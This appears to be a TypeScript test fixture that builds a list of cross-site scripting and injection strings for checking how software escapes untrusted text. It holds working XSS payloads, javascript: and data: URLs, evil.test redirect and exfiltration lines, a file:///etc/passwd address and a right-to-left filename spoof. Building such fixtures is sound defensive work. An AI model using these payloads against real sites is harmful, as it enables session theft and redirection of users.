/**
 * Strings that try to leave the place where text belongs: HTML, attributes, comments, script, style and entity tricks,
 * addresses with other schemes, marks that turn the direction, controls. Each carries the word PWNED where a script
 * would call it. Built from parts, so that every opening meets every payload.
 */
const OPENINGS = [
  '',
  '"',
  "'",
  '`',
  '>',
  '">',
  "'>",
  '--></style></script></title></textarea></template></svg></math>',
  '</pre></code></td></tr></table></jiannuo-status>',
  '<!--',
  '<![CDATA[',
  '<?php ',
  '&#34;&#62;',
  '\\"',
  '\u0000',
  '\ufeff',
  '\u202e',
  '\u2066',
  '＜',
  '${',
  '{{',
];

const PAYLOADS = [
  '<script>PWNED()</script>',
  '<img src=x onerror=PWNED()>',
  '<svg onload=PWNED()>',
  '<svg><script href="data:,PWNED()"/></svg>',
  '<iframe srcdoc="<script>parent.PWNED()</script>"></iframe>',
  '<a href="javascript:PWNED()">x</a>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/PWNED">',
  '<link rel=stylesheet href=https://evil.test/PWNED>',
  '<style>@import "https://evil.test/PWNED"</style>',
  '<form action=https://evil.test><input name=PWNED autofocus onfocus=PWNED()>',
  '<math><mtext></p><style><!--</style><img src onerror=PWNED()>',
  '<noscript><p title="</noscript><img src=x onerror=PWNED()>">',
  ' onmouseover=PWNED() x="',
  '" autofocus onfocus="PWNED()',
];

const ADDRESSES = [
  'javascript:PWNED()',
  'JaVaScRiPt:PWNED()',
  ' javascript:PWNED()',
  'java\tscript:PWNED()',
  '\u0001javascript:PWNED()',
  'data:text/html,<script>PWNED()</script>',
  'vbscript:PWNED()',
  'blob:https://a.test/PWNED',
  'file:///etc/passwd',
  '//evil.test/PWNED',
  'http:evil.test',
  'https://a.test/"onmouseover="PWNED()',
  "https://a.test/'><script>PWNED()</script>",
  'https://a.test/\u202egpj.exe',
  'https://user:pass@a.test/',
  'https:\\\\evil.test\\PWNED',
];

const ODDITIES = [
  '\ud800',
  'a\udc00b',
  '\ufffe\uffff',
  '\u0008\u000b\u007f\u0085',
  '\u2028\u2029',
  'Ａ\u200f\u202d\u2069',
  '%3Cscript%3E',
  '&lt;b&gt;',
  '&amp;',
  '𝒻',
  'ﷺ',
];

export const ATTACKS: readonly string[] = [
  ...OPENINGS.flatMap((opening) => PAYLOADS.map((payload) => opening + payload)),
  ...ADDRESSES,
  ...ODDITIES,
];
